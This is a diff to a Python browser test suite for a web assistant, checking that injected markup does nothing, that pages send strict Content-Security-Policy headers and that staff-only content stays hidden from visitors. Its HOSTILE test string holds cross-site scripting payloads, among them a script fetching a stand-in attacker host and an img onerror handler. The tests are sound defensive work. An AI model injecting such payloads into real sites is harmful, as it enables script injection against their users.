@@ -5,7 +5,7 @@ from urllib.parse import urlencode
 
 import httpx
 import pytest
-from playwright.sync_api import Page, expect
+from playwright.sync_api import Browser, Page, expect
 
 from assistant.adapters.sql.knowledge import SqlStore
 from tests import papers
@@ -13,15 +13,15 @@ from tests.browser.conftest import QUESTIONS, agree, ask, choose
 from tests.conftest import WebServer
 
 HOSTILE = (
-    "royalties <script>fetch('http://evil.example')</script> ![x](http://evil.example/a.png) paid from China "
-    "<img src=x onerror=\"document.title='gone'\"> [x](javascript:alert(1))"
+    "What is withheld from royalties paid from China? <script>fetch('http://evil.example')</script> "
+    "![x](http://evil.example/a.png) <img src=x onerror=\"document.title='gone'\">"
 )
 
 
 def test_a_hostile_question_is_shown_as_it_is_and_does_nothing(page: Page) -> None:
     page.on("dialog", lambda dialog: pytest.fail(dialog.message))
     agree(page)
-    ask(page, HOSTILE)
+    ask(page, HOSTILE, cited=False)
     expect(page.locator("#chat .said")).to_have_text(HOSTILE)
     assert page.locator("#chat .said *").count() == 0
     page.locator("#chat [data-do=person]").click()
@@ -39,43 +39,42 @@ def test_hostile_text_of_a_document_is_read_and_does_nothing(page: Page) -> None
     page.on("dialog", lambda dialog: pytest.fail(dialog.message))
     ask(page, papers.QUESTION)
     page.locator("#panel a[data-open]").first.click()
-    expect(page.locator("#viewer .text").first).to_contain_text(papers.HOSTILE)
+    expect(page.locator("#viewer .text", has_text=papers.HOSTILE)).to_be_attached()
     assert page.locator("#viewer .text img, #viewer script, #viewer .text a").count() == 0
 
 
 def test_pages_bring_a_policy_that_forbids_what_is_not_of_this_server(web_server: WebServer) -> None:
     with httpx.Client(base_url=web_server.url, headers={"Accept": "text/html"}) as client:
-        for path in ("/countries", "/country/EG", "/procedure/cn-import-free-registration", "/me", "/account/login", "/nowhere"):
+        for path in ("/countries", "/country/EG", "/procedure/cn-import-free-registration", "/me", "/nowhere"):
             policy = client.get(path).headers["content-security-policy"]
             assert "default-src 'none'" in policy, path
             assert "unsafe" not in policy, path
             assert "http" not in policy, path
-        policy = client.get("/").headers["content-security-policy"]
-        assert "default-src 'self'" in policy
-        assert "object-src 'none'" in policy
-        assert "http" not in policy
+        for path in ("/", "/account/login"):
+            policy = client.get(path).headers["content-security-policy"]
+            assert "default-src 'self'" in policy, path
+            assert "object-src 'none'" in policy, path
+            assert "http" not in policy, path
 
 
-def test_a_script_put_into_a_page_beside_the_conversation_would_not_run(visit: Callable[..., Page]) -> None:
-    page = visit("en", path="/countries")
-    blocked: list[str] = []
-    page.expose_function("blocked", blocked.append)
-    page.evaluate(
+def test_a_script_put_into_a_page_beside_the_conversation_would_not_run(browser: Browser, web_server: WebServer) -> None:
+    page = browser.new_page()
+    page.goto(f"{web_server.url}/countries")
+    blocked = page.evaluate(
         """() => new Promise((done) => {
-          document.addEventListener('securitypolicyviolation', (event) => { window.blocked(event.effectiveDirective); done(); });
+          document.addEventListener('securitypolicyviolation', (event) => done(event.effectiveDirective));
           document.querySelector('main').insertAdjacentHTML('beforeend', '<b onclick="document.title=1">x</b>');
           document.querySelector('main b').click();
         })"""
     )
-    assert blocked
-    assert blocked[0].startswith("script-src")
-    page.context.clear_cookies()
+    assert blocked == "script-src-attr"
+    page.close()
 
 
 def test_what_only_staff_may_see_is_not_there_for_a_visitor(page: Page, store: SqlStore, web_server: WebServer) -> None:
     document = next(i for i, source in store.sources().items() if source.path and "zarqa-price" in source.path)
     passage = store.document_passages(document)[0]
-    ask(page, "What is the heliotrope reserve price of the Zarqa patent family?")
+    ask(page, "What is the heliotrope reserve price of the Zarqa patent family?", cited=False)
     assert "nine million" not in page.locator("body").inner_text()
     query = urlencode({"passage": passage.id, "quote": "heliotrope"})
     with httpx.Client(base_url=web_server.url) as client:
